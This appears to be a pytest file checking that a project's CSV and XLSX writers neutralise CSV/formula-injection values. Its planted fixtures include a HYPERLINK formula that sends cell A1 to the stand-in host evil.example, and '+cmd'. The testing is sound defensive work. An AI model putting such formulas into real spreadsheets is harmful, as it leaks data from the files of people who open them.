"""Issue 15 finding 11 beyond the registry: every CSV and XLSX writer neutralises planted formulas.

Each writer gets the planted values in its free-text inputs; the test opens
what it wrote as a spreadsheet would (first character of every CSV cell, the
type of every XLSX cell), and tipsom's own readers give the values back exactly.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from openpyxl import load_workbook

from tipsom.core.cells import FORMULA_STARTS, neutral_frame, restore_frame
from tipsom.money.links import CaseLink, IdentifierKind, read_links, write_links
from tipsom.money.model import Finding, RowError, Typology
from tipsom.money.readers import write_rejects
from tipsom.money.scan import read_findings, write_findings_csv
from tipsom.osint.records import read_ads
from tipsom.report.publish import Sheet, write_csv, write_xlsx
from tipsom.report.sdg import SdgRow, write_sdg
from tipsom.synth import ads as synth_ads

ARITHMETIC = re.compile(r"[0-9 +\-().\/]+")
PLANTED = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd", "@SUM(1)", "-2+3")


def _links(out: Path) -> list[Path]:
    links = [CaseLink(IdentifierKind.ACCOUNT, value, value, value) for value in PLANTED]
    write_links(links, out / "links.csv")
    assert read_links(out / "links.csv") == links
    return [out / "links.csv"]


def _rejects(out: Path) -> list[Path]:
    return [write_rejects([RowError(value, 2, value, value) for value in PLANTED], out / "rejects.csv")]


def _findings(out: Path) -> list[Path]:
    findings = [Finding(value, Typology.FAN_IN, 0.5, (value,), -12.5, 0, 60, value, (value,)) for value in PLANTED]
    write_findings_csv(findings, out / "findings.csv")
    back = read_findings(out / "findings.csv")
    assert [(f.account, f.explanation, f.tx_ids, f.counterparties) for f in back] == [
        (f.account, f.explanation, f.tx_ids, f.counterparties) for f in findings]
    return [out / "findings.csv"]


def _sdg(out: Path) -> list[Path]:
    rows = [SdgRow("VC_HTF_DETV", value, "2024", "_T", "_T", "-3", "NUMBER", value) for value in PLANTED]
    return [write_sdg(rows, out / "sdg.csv")]


def _published(out: Path) -> list[Path]:
    sheet = Sheet("fees", "Fees", tuple(PLANTED), [(value, 3, -2.5) for value in PLANTED])
    return [write_csv(sheet, out / "fees.csv"), write_xlsx([sheet], out / "tables.xlsx", PLANTED)]


def _synthetic_ads(out: Path, monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    planted = [{"id": f"ad-{i}", "url": value, "source": value, "posted_at": "2024-01-02T03:04:05Z",
                "title": value, "text": value, "location": value, "price": value} for i, value in enumerate(PLANTED)]

    def ads(self: synth_ads.AdGenerator) -> Iterator[tuple[dict[str, Any], dict[str, str]]]:
        for ad in planted:
            yield ad, {"ad_id": ad["id"], "operation_id": "", "kind": "noise", "category": "noise"}

    monkeypatch.setattr(synth_ads.AdGenerator, "ads", ads)
    written, truth = synth_ads.write_synthetic_ads(out / "ads.csv", len(planted), seed=1)
    back = read_ads(written)
    assert not back.bad
    assert [(a.ad_id, a.text, a.title, a.location, a.price, a.source) for a in back.ads] == [
        (ad["id"], ad["text"], ad["title"], ad["location"], ad["price"], ad["source"]) for ad in planted]
    return [written, truth]


def _frame(out: Path) -> list[Path]:
    """The pandas writers (money, estimate, context, report microdata, synth transactions) share one helper."""
    frame = pd.DataFrame({"account": list(PLANTED), "amount": [-1.5, 2.0, -3.25, 4.0], "count": [1, -2, 3, 4],
                          "code": pd.Categorical(list(reversed(PLANTED)))})
    neutral_frame(frame).to_csv(out / "frame.csv", index=False)
    back = restore_frame(pd.read_csv(out / "frame.csv"))
    pd.testing.assert_frame_equal(back[["amount", "count"]], frame[["amount", "count"]])  # still numbers
    assert back["account"].tolist() == list(PLANTED)
    assert back["code"].tolist() == list(reversed(PLANTED))
    return [out / "frame.csv"]


WRITERS: dict[str, Callable[..., list[Path]]] = {
    "money links": _links, "money rejects": _rejects, "money findings": _findings, "report sdg": _sdg,
    "report publish": _published, "synth ads": _synthetic_ads, "pandas frame": _frame,
}


@pytest.mark.parametrize("name", sorted(WRITERS))
def test_no_written_cell_is_a_formula(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    writer = WRITERS[name]
    paths = writer(tmp_path, monkeypatch) if name == "synth ads" else writer(tmp_path)
    planted_seen = 0
    for path in paths:
        if path.suffix == ".xlsx":
            book = load_workbook(path)
            cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
            assert all(c.data_type != "f" for c in cells)
            planted_seen += sum(c.value in PLANTED for c in cells)
            continue
        with path.open(newline="", encoding="utf-8") as fh:
            values = [v for row in csv.reader(fh) for v in row]
        # Numbers and phone numbers (``-2+3``) may start with a sign: they can call or reference nothing.
        formulas = [v for v in values if v[:1] in FORMULA_STARTS and not ARITHMETIC.fullmatch(v)]
        assert formulas == []
        planted_seen += sum(v.lstrip("'") in PLANTED for v in values)
    assert planted_seen  # the planted values did reach the file
